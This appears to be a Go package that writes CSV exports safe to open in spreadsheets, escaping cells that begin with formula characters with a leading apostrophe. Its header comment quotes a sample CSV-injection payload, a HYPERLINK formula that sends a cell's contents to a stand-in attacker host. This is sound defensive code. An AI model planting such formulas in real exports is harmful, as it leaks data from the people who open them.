// Package csvsafe writes CSV that is safe to open in a spreadsheet: every
// CSV the project writes (inventory exports, reports) goes through Writer.
//
// A cell beginning with '=', '+', '-', '@', a tab or a carriage return is
// read by Excel, LibreOffice and Google Sheets as a formula: an inventory
// name such as =HYPERLINK("http://evil.example/?"&A1,"click") would run
// when an operator opens the export (CSV injection, OWASP). Such a cell is
// written with a leading apostrophe, which spreadsheets show as text and
// do not evaluate. A plain number ("-12.5", "+8613800000000") is no
// formula and is left alone, so figures stay figures.
//
// Escape is undone by Unescape, exactly: a cell that already starts with
// an apostrophe before such a character gets one more, so importing an
// export gives back what was exported.
package csvsafe

import (
	"encoding/csv"
	"io"
	"regexp"
)

// number is a plain decimal number, signed or not: a spreadsheet reads it
// as a value, never as a formula.
var number = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$`)

// risky reports whether a spreadsheet would evaluate s (or, after
// Unescape, whether s is an escaped cell).
func risky(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return !number.MatchString(s)
	case '\'':
		return risky(s[1:])
	}
	return false
}

// Escape returns the cell as it is safe to write.
func Escape(s string) string {
	if risky(s) {
		return "'" + s
	}
	return s
}

// Unescape returns the cell Escape was given: it removes the apostrophe
// Escape added, and nothing else.
func Unescape(s string) string {
	if len(s) > 1 && s[0] == '\'' && risky(s[1:]) {
		return s[1:]
	}
	return s
}

// Writer is an encoding/csv Writer that escapes every cell.
type Writer struct {
	w   *csv.Writer
	row []string
}

// NewWriter returns a Writer to w.
func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }

// Write writes one row, each cell escaped.
func (w *Writer) Write(row []string) error {
	w.row = w.row[:0]
	for _, c := range row {
		w.row = append(w.row, Escape(c))
	}
	return w.w.Write(w.row)
}

// Flush writes what is buffered and returns the first error of any write.
func (w *Writer) Flush() error {
	w.w.Flush()
	return w.w.Error()
}
